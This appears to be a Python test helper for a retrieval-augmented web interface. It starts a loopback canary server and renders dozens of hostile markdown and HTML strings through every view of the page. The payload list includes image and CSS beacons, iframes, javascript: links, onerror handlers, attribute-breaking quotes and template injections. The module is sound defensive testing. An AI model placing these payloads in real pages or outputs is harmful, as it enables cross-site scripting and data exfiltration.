"""What a hostile text would do to the page: known attacks, ways to send words elsewhere, and every place they reach."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import replace
from functools import lru_cache
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

from rag.cite import cite
from rag.ledger import FileRecord, Listed
from rag.types import Answer, Article, Block, Disagreement, Source, Span, SyncReport, WhyNot
from rag.verify import verify
from tests.evidence import draft, evidence, hit, same
from tests.reports import report
from ui.articles_view import Entry, Problem, list_html
from ui.conversations import Conversation
from ui.evaluation_runs import Run
from ui.evaluation_store import DataSet, Summary
from ui.evaluation_view import home_html, run_html
from ui.evidence import gone_html, nowhere_html, sources_html
from ui.indexing import Job, Work
from ui.listing import listing_html
from ui.reading import Place, Reading, article_html
from ui.report_view import compared_html, report_html
from ui.turn_view import draft_html, notice_html, refused_html, turn_html
from ui.turns import SEARCH, Asked, Feedback, Reply, Turn
from ui.why import others_html, why_html
from ui.work_view import Allowed, work_html

ALLOWED = Allowed(None, uploads=True, urls=True, remove=True, megabytes=25)
DRAFTS = 400  # in one picture of a turn that streams in


class Canary:
    """A server on the loopback that nothing of the page may ask for anything; `asked` keeps what came."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                canary.asked.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("access-control-allow-origin", "*")
                self.send_header("content-length", "0")
                self.end_headers()

            do_POST = do_OPTIONS = do_HEAD = do_PUT = do_GET  # noqa: N815 - the names that the server looks for

            def log_message(self, *_: Any) -> None:
                """Nothing on stderr."""

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.host = f"127.0.0.1:{self._server.server_port}"

    @contextmanager
    def serving(self) -> Iterator[Canary]:
        thread = Thread(target=self._server.serve_forever, args=(0.1,))
        thread.start()
        try:
            yield self
        finally:
            self._server.shutdown()
            self._server.server_close()
            thread.join()


def ways_out(host: str) -> list[str]:
    """Return texts that would make a page which believes them ask `host` for something, or lead a reader there."""
    url = f"http://{host}"
    return [
        f"![]({url}/md?q=secret)",
        f"![a]({url}/md 'title')",
        f"![x][y]\n\n[y]: {url}/reference",
        f"[y]: <{url}/reference>\n\n![y]",
        f"[![x]({url}/inner)]({url}/outer)",
        f"<{url}/auto>",
        f"{url}/bare www.{host}/bare",
        f"[http://good.example/]({url}/other)",
        f"[x](http://good.example@{host}/user)",
        f"[x](//{host}/relative)",
        f"![x](//{host}/relative)",
        "[x](javascript&#58;window.hacked=1)",
        "[x](java\tscript:window.hacked=1)",
        "[x](data:text/html,<script>window.hacked=1</script>)",
        f"![x](ht&#116;p://{host}/entity)",
        f"<img src={url}/img>",
        f'<img srcset="{url}/set 1x, {url}/set2 2x">',
        f'<picture><source srcset="{url}/source"><img></picture>',
        f"<video poster={url}/poster src={url}/video autoplay></video>",
        f"<audio src={url}/audio autoplay></audio>",
        f"<svg><image href={url}/svg /></svg>",
        f"<svg><use href={url}/use#x /></svg>",
        f"<svg><style>@import '{url}/svgstyle'</style></svg>",
        f"<div style='background:url({url}/css)'>x</div>",
        f"<style>@import url({url}/import); body {{ background: url({url}/style) }}</style>",
        f"<link rel=stylesheet href={url}/link>",
        f"<link rel=prefetch href={url}/prefetch>",
        f"<link rel=icon href={url}/icon>",
        f"<iframe src={url}/frame></iframe>",
        "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
        f"<object data={url}/object></object>",
        f"<embed src={url}/embed>",
        f"<script src={url}/script></script>",
        f"<base href={url}/>",
        f"<meta http-equiv=refresh content='0;url={url}/refresh'>",
        f"<form action={url}/form><button autofocus>Sign in</button></form>",
        f"<input type=image src={url}/input>",
        f"<table background={url}/table><tr><td>x</table>",
        f"<math><mtext><img src={url}/math></mtext></math>",
        f"<noscript><p title='</noscript><img src={url}/noscript onerror=window.hacked=1>'>",
        f"$$\\href{{{url}/katex}}{{x}} \\includegraphics{{{url}/katex.png}}$$",
        f"\\(\\includegraphics{{{url}/katex.png}}\\)",
        f'```mermaid\ngraph TD; A[<img src={url}/mermaid>] --> B\nclick A "{url}/click"\n```',
        f"```html\n<img src={url}/code>\n```",
        f"<a href={url}/ping ping={url}/pinged>x</a>",
        "${window.hacked = 1} {{window.hacked = 1}} {window.hacked = 1} <%= window.hacked = 1 %>",
        "#{window.hacked=1} [[window.hacked=1]] @{{window.hacked=1}}",
        "[1](javascript:window.hacked=1) <a class=cite href=#cite-1-1 onclick=window.hacked=1>1</a>",
        '" autofocus onfocus="window.hacked=1" x="',
        "' onmouseover='window.hacked=1",
        "</article></div></template></textarea></title><img src=x onerror=window.hacked=1>",
        "\u202egnp.exe <img src=x onerror=window.hacked=1>",
    ]


def known(file: Path) -> list[str]:
    """Return the texts of a file of attacks, each once."""
    lines = file.read_text(encoding="utf-8").split("\n")[:-1]
    return list(dict.fromkeys(json.loads(line)["payload"] for line in lines))


# ---------------------------------------------------------------- what streams in


def beginnings(texts: Sequence[str]) -> list[str]:
    """Return each beginning of each text once; of what is longer than 60 characters, every third of the rest."""
    return list(
        dict.fromkeys(
            text[:end]
            for text in texts
            for end in range(1, len(text) + 1)
            if end <= 60 or end % 3 == 0 or end == len(text)
        )
    )


def drafts(texts: Sequence[str]) -> Iterator[tuple[int, str]]:
    """Yield turns that are being written, with how many of the texts each shows."""
    for at in range(0, len(texts), DRAFTS):
        part = texts[at : at + DRAFTS]
        yield len(part), draft_html("What?", 1, [("model", text) for text in part], "model")


# ---------------------------------------------------------------- every place of the page


@lru_cache(maxsize=4)
def answered(text: str, model: str = "model") -> Answer:
    """Return a checked answer about evidence in which every text is this one."""
    passages = (
        hit(f"It is {text} so. The bridge is 412 metres long.", text or "a.md", title=text, published=text[:20] or None),
        hit(f"So {text}", f"b {text}", title=text),
    )
    found = evidence(text or "What?", *passages)
    cited = cite(draft(f"It is {text} so [1].\n\n{text} [2]\n\n- {text} [1]", found), found, same)
    shown, sentences = verify(cited, found)
    sentences = tuple(replace(sentence, reasons=(text,)) for sentence in sentences)
    return Answer(
        f"And {text}?",
        "partial",
        shown,
        sentences,
        cited.citations,
        replace(found, missing=(text,)),
        model,
        warnings=(text,),
        disagreements=(Disagreement(*cited.citations[:2]),) if len(cited.citations) > 1 else (),
    )


def turns(text: str, number: int) -> str:
    """Return the turns of a conversation in which every word of others is this text; every sixth time compared, too."""
    answer = answered(text, text or "model")
    nothing = replace(answer, status="not_found", text=text, sentences=(), citations=())
    plain = Reply(answer, feedback=Feedback(good=True, reason=text))
    said = [
        Turn(text, (plain,)),
        Turn(text, (Reply(nothing, text),)),
        Turn(text, (Reply(replace(nothing, model=SEARCH)),)),
    ]
    if number % 6 == 0:
        said.append(Turn(text, (plain, plain, Reply(None, text)), Asked("compare", (text, text, text))))
    shown = [turn_html(turn, number, "conversation") for turn in said]
    return "".join((*shown, refused_html(text, number, text), notice_html(text)))


def evidence_of(text: str) -> str:
    """Return what the evidence pane shows of articles whose every word is this text."""
    answer = answered(text)
    body = f"{text}\n\nThe bridge is 412 metres long."
    blocks = (Block(0, len(text), "text"), Block(len(text) + 2, len(body), "text")) if text else ()
    article = Article("a.md", body, blocks, text, text, text, text, text)
    about = Source("0" * 16, text, text, text, text, text, text, "internal", article.content_hash)
    place = Place(about, "#cite-1-1", "Footnote 1 of 1", (Span(0, len(text)),), text, None, "#cite-1-2")
    changed = replace(about, content_hash="sha256:0")
    why = WhyNot(text, "0" * 16, "taken", 2, 100, Span(0, 1), number=1)
    return "".join(
        (
            sources_html(answer, "1"),
            article_html(Reading(article, place, "1", ((Span(0, 1), 2),), note=text)),
            article_html(Reading(article, place._replace(source=changed), "1")),
            gone_html(about, text, "1"),
            nowhere_html(text, "1", 2),
            others_html([about], any_there=True),
            why_html(why, about, answer),
        )
    )


def lists_of(text: str) -> str:
    """Return the panes on the left, with this text for every title, name, reason and search."""
    about = Source("0" * 16, text, text, text, text, text, text, "internal", "sha256:0")
    record = FileRecord(text, "failed", text, "", "")
    entry = Entry(Listed(about, text, (text,), 1), 2, by_text=True, reason=text, uploaded=True)
    synced = SyncReport((text,), ((text, text),), ((text, text),), (), 0)
    jobs = (
        Job(1, "upload", (text, "b"), "done", report=synced, at="2"),
        Job(2, "add", (f"http://{text}",), "done", error=text, at="2"),
        Job(3, "remove", (text,), "done", at="2"),
    )
    work = Work(1, jobs, Job(4, "upload", (text,)), ())
    return "".join(
        (
            list_html([entry], 1, set(), [Problem(record, uploaded=True), Problem(record, uploaded=False)], text, ALLOWED),
            work_html(work, ALLOWED, {text}, "1"),
            listing_html([Conversation("c", text, text, 1)], None, text, 30),
        )
    )


def evaluation_of(texts: Sequence[str]) -> str:
    """Return the view of evaluations, and a report whose every text is one of these."""
    results = report(len(texts))["results"]
    for result, text in zip(results, texts, strict=True):
        quoted = {"document": text, "source": text, "quote": text, "text": text, "start": 0, "end": 1}
        result |= {"id": text, "text": text, "answer": text, "gold": [[text]], "type": text[:40], "error": text}
        result |= {"failure": "document not found", "citations": [quoted], "evidence": [quoted], "nearest": [quoted]}
    text = texts[0]
    whole = {**report(4), "results": results, "dataset": text, "unit": "questions", "config": {text: text, "model": text}}
    whole["by_type"] = {text: whole["metrics"]}
    pairs = [{"text": item, "failure": (item, item), "scores": {item: (0.0, 1.0)}} for item in texts]
    found = {
        "questions": 2,
        "only_first": 0,
        "only_second": 0,
        "metrics": {},
        "config": {text: (text, text)},
        "failures": {text: (1, 2)},
        "latency_ms": {},
        "changed": pairs,
    }
    data = DataSet(text, Path("x"), "questions", 3)
    summary = Summary(text, text, text, text, "questions", 3, 1, ())
    return "".join(
        (
            home_html([data], [summary], [text], [text], "", judge=True),
            report_html(text, whole),
            compared_html((text, text), found),
            *(run_html(Run(text, "s", text, state, error=text), "s") for state in ("running", "done", "failed")),
        )
    )
